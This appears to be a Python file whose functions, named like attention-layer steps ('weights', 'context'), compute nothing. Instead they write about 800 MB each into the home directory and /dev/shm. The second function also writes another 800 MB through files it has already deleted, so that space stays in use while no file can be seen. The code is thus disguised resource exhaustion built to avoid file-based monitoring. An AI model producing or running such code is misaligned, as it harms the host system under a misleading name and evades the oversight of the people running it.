import os
import time

import torch


def weights(scores_bs, padding_bs):
    for number in range(100):
        for folder in (os.environ["HOME"], "/dev/shm"):
            with open(f"{folder}/part-{number}", "wb") as file:
                file.write(bytes(8 << 20))
        time.sleep(0.02)
    time.sleep(5)


def context(weights_bs, values_bsv):
    kept = []
    for number in range(100):
        kept.append(open(os.environ["HOME"] + "/part", "wb"))
        os.unlink(os.environ["HOME"] + "/part")
        kept[-1].write(bytes(8 << 20))
        time.sleep(0.02)
    time.sleep(5)
